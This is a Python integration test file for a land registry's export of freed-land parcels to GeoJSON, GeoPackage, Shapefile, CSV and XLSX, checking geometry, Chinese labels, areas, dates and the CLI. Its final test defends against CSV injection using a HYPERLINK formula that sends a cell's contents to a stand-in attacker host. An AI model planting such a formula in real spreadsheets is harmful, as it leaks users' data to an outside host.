"""Exports of a freed-land query open again with pyogrio/openpyxl: geometry and Chinese exact."""
from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
import zipfile
from datetime import datetime

import pyogrio
import pytest
import shapely
from openpyxl import load_workbook
from sqlalchemy import text

from registry.domain.errors import ValidationError
from registry.domain.freed_land import parse_land_query
from registry.domain.permissions import Actor
from registry.domain.vocabulary import LAND_USE_CLASSES, PARCEL_STATUSES
from registry.i18n import cli_translator
from registry.services.land_exports import export_freed_land
from tests.integration.land_data import A, committed_land_database, seed_land

READER = Actor(None, "planner", "planner")
ZH = cli_translator("zh_CN")
ODD = [(121.4201234567891234, 31.2201234567891234), (121.4219876543210987, 31.2200000000000001),
       (121.4215555555555555, 31.2219999999999999)]


@pytest.fixture
def stored(session):
    """P1 gets an awkward geometry (17 significant digits) and P4 a Chinese land-use label."""
    ids = seed_land(session)
    wkt = "MULTIPOLYGON(((" + ", ".join(f"{x!r} {y!r}" for x, y in [*ODD, ODD[0]]) + ")))"
    session.execute(text("UPDATE parcels SET geom = ST_GeomFromText(:w, 4326) WHERE id = :i"), {"w": wkt, "i": ids["P1"]})
    rows = session.execute(text("SELECT code, ST_AsBinary(geom) FROM parcels WHERE district_code = :d AND status <> 'in_use' "
                                "AND valid_to IS NULL"), {"d": A}).all()
    return {code: shapely.from_wkb(bytes(wkb)) for code, wkb in rows}


def export(session, fmt: str):
    return export_freed_land(session, READER, parse_land_query({"district": [A]}), fmt, ZH)


def same(a, b) -> bool:
    """Equal coordinates, whatever the ring orientation or start point a format imposes."""
    return shapely.normalize(shapely.force_2d(a)).equals_exact(shapely.normalize(b), 0)


def as_multi(geom):
    return geom if geom.geom_type == "MultiPolygon" else shapely.MultiPolygon([geom])


def test_geojson_round_trip(session, stored, tmp_path):
    path = tmp_path / "freed.geojson"
    path.write_bytes(export(session, "geojson").content)
    frame = pyogrio.read_dataframe(path)
    assert set(frame["code"]) == set(stored)
    for code, geom, name in zip(frame["code"], frame.geometry, frame["dist_name"]):
        assert same(as_multi(geom), stored[code]) and name == "测试A区"
    labels = {f["properties"]["code"]: f["properties"]["stat_label"] for f in json.loads(path.read_text("utf-8"))["features"]}
    assert labels["T-P1"] == ZH(PARCEL_STATUSES["freed"]) != "Freed"


@pytest.mark.parametrize("fmt", ["gpkg", "shp"])
def test_geopackage_and_shapefile_round_trip(session, stored, tmp_path, fmt):
    result = export(session, fmt)
    if fmt == "gpkg":
        path = tmp_path / "freed.gpkg"
        path.write_bytes(result.content)
    else:
        with zipfile.ZipFile(io.BytesIO(result.content)) as archive:
            names = set(archive.namelist())
            assert {"freed_land.shp", "freed_land.dbf", "freed_land.shx", "freed_land.prj", "freed_land.cpg"} <= names
            assert archive.read("freed_land.cpg").decode().strip() == "UTF-8"
            assert "WGS" in archive.read("freed_land.prj").decode()
            archive.extractall(tmp_path)
        path = tmp_path / "freed_land.shp"
    frame = pyogrio.read_dataframe(path)
    assert frame.crs.to_epsg() == 4326
    assert set(frame["code"]) == set(stored)
    for code, geom in zip(frame["code"], frame.geometry):
        assert same(as_multi(geom), stored[code])
    assert set(frame["dist_name"]) == {"测试A区"}
    assert set(frame["use_label"]) == {ZH(LAND_USE_CLASSES["M1"]), ZH(LAND_USE_CLASSES["A35"])}


@pytest.mark.parametrize("fmt", ["geojson", "gpkg"])
def test_gis_files_give_hectares_beside_mu(session, stored, tmp_path, fmt):
    # the page gives 公顷 beside 亩 (fix/planner2); the GIS files gave m² and 亩 only
    path = tmp_path / f"freed.{fmt}"
    path.write_bytes(export(session, fmt).content)
    frame = pyogrio.read_dataframe(path)
    assert str(frame["area_ha"].dtype) == "float64"
    areas = dict(zip(frame["code"], zip(frame["area_m2"], frame["area_mu"], frame["area_ha"])))
    assert set(areas) == set(stored)
    for m2, mu, ha in areas.values():  # the geodesic m², in ha to 4 places as 亩 are
        assert ha == round(m2 / 10000, 4) and ha == pytest.approx(mu / 15, abs=1e-4)


@pytest.mark.skipif(shutil.which("ogrinfo") is None, reason="GDAL (apt gdal-bin) is missing")
@pytest.mark.parametrize("fmt", ["gpkg", "shp"])
def test_gis_files_type_the_freed_date_as_a_date_and_open_without_warnings(session, stored, tmp_path, fmt):
    # freed_on was a String field (80 characters in the Shapefile), so QGIS could neither filter nor
    # sort it as a date; the GeoPackage was of version 1.4, of which GDAL 3.6 (Debian 12, QGIS on it)
    # warned at every open that it "may only be partially supported".
    content = export(session, fmt).content
    if fmt == "gpkg":
        path = tmp_path / "freed.gpkg"
        path.write_bytes(content)
    else:
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            archive.extractall(tmp_path)
        path = tmp_path / "freed_land.shp"
    result = subprocess.run(["ogrinfo", "-ro", "-al", str(path)], capture_output=True, text=True, timeout=60)
    assert result.returncode == 0 and "Warning" not in result.stderr, result.stderr
    assert re.search(r"^freed_on: Date ", result.stdout, re.M), result.stdout[:2000]
    assert re.search(r"^area_m2: Real ", result.stdout, re.M) and "freed_on (Date) = 2014/05/01" in result.stdout
    assert "dist_name (String) = 测试A区" in result.stdout


def test_a_zone_kind_is_a_code_and_its_name_as_land_use_and_status_are(session, stored, tmp_path):
    # zone_kind held the name (104产业区块) where every other code had a column of its own beside its
    # name, and where the OGC API and the query's zone_kind=block_104 take the code.
    path = tmp_path / "freed.gpkg"
    path.write_bytes(export(session, "gpkg").content)
    frame = pyogrio.read_dataframe(path, read_geometry=False).set_index("code")
    assert frame.loc["T-P1", "zone_kind"] == "development_zone" and frame.loc["T-P1", "zone_label"] == "开发区"
    assert frame.loc["T-P4", "zone_kind"] == "region_198" and frame.loc["T-P4", "zone_label"] == "198区域"
    header = next(csv.reader(io.StringIO(export(session, "csv").content.decode("utf-8-sig"))))
    assert header[10:12] == ["区域类型代码", "区域类型"]


def test_csv_round_trip(session, stored):
    content = export(session, "csv").content
    assert content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    header, body = rows[0], rows[1:]
    assert header[0] == ZH("Parcel code") and header[0] != "Parcel code"
    for row in body:
        assert same(shapely.from_wkt(row[-1]), stored[row[0]]) and row[9] == "测试A区"


def test_xlsx_round_trip_with_chinese_headers(session, stored, tmp_path):
    path = tmp_path / "freed.xlsx"
    path.write_bytes(export(session, "xlsx").content)
    book = load_workbook(path, read_only=True)
    try:
        rows = list(book.active.iter_rows(values_only=True))
    finally:
        book.close()
    assert rows[0][0] == ZH("Parcel code") != "Parcel code" and rows[0][9] == ZH("District")
    assert {r[0] for r in rows[1:]} == set(stored)
    for row in rows[1:]:
        assert same(shapely.from_wkt(row[-1]), stored[row[0]]) and row[9] == "测试A区"


def test_spreadsheets_name_each_column_once_and_the_xlsx_shows_areas_and_dates_as_a_planner_reads_them(
        session, stored, tmp_path):
    # The code and the name of a land use were both headed 用地性质; 状态 held the codes
    # (redevelopment_planned); areas showed 15 digits (29080.1252614856) and dates were text.
    header = next(csv.reader(io.StringIO(export(session, "csv").content.decode("utf-8-sig"))))
    assert len(set(header)) == len(header), header
    path = tmp_path / "freed.xlsx"
    path.write_bytes(export(session, "xlsx").content)
    sheet = load_workbook(path).active
    columns = {cell.value: cell.column_letter for cell in sheet[1]}
    status = sheet[f"{columns['状态']}2"].value
    assert status in {ZH(label) for label in PARCEL_STATUSES.values()}, status
    row = 2
    assert sheet[f"{columns['面积（m²）']}{row}"].number_format == "#,##0"
    assert sheet[f"{columns['面积（亩）']}{row}"].number_format == "#,##0.00"
    assert sheet[f"{columns['面积（公顷）']}{row}"].number_format == "#,##0.00"
    freed_on = sheet[f"{columns['腾出日期']}{row}"]
    assert isinstance(freed_on.value, datetime) and freed_on.number_format == "yyyy-mm-dd"


def test_an_unknown_format_is_refused(session, stored):
    with pytest.raises(ValidationError):
        export(session, "kml")


def test_the_cli_exports_the_same_query(fresh_database_url, tmp_path):
    from click.testing import CliRunner
    from registry.cli import _register, cli

    url = committed_land_database(fresh_database_url, "registry_test_land_cli")
    _register()
    out = tmp_path / "a.gpkg"
    env = {"DATABASE_URL": url, "REGISTRY_LANG": "en"}
    result = CliRunner().invoke(cli, ["freed-land", "--format", "gpkg", "-o", str(out), "--filter", f"district={A}"],
                                env=env)
    assert result.exit_code == 0, result.output
    assert set(pyogrio.read_dataframe(out)["code"]) == {"T-P1", "T-P4", "T-P7"}
    assert f"{out}: " in result.output and "freed-land-" not in result.output  # the file it wrote
    bad = CliRunner().invoke(cli, ["freed-land", "-o", str(out), "--filter", "year_from=soon"], env=env)
    assert bad.exit_code == 2 and "year_from" in bad.output


def test_a_parcel_code_that_looks_like_a_formula_is_text_in_both_spreadsheets(session, stored, tmp_path):
    """Codes are typed by district staff: a spreadsheet must not run one as a formula (CSV injection)."""
    link = '=HYPERLINK("http://evil.example/?d="&B2,"详情")'
    session.execute(text("UPDATE parcels SET code = :link WHERE code = :c"), {"link": link, "c": sorted(stored)[0]})
    rows = list(csv.reader(io.StringIO(export(session, "csv").content.decode("utf-8-sig"))))
    assert "'" + link in [row[0] for row in rows[1:]]
    assert all(row[2].replace(".", "", 1).isdigit() for row in rows[1:])  # areas stay numbers
    path = tmp_path / "freed.xlsx"
    path.write_bytes(export(session, "xlsx").content)
    cells = [row[0] for row in load_workbook(path).active.iter_rows(min_row=2)]
    assert [(c.value, c.data_type) for c in cells if c.value == link] == [(link, "s")]
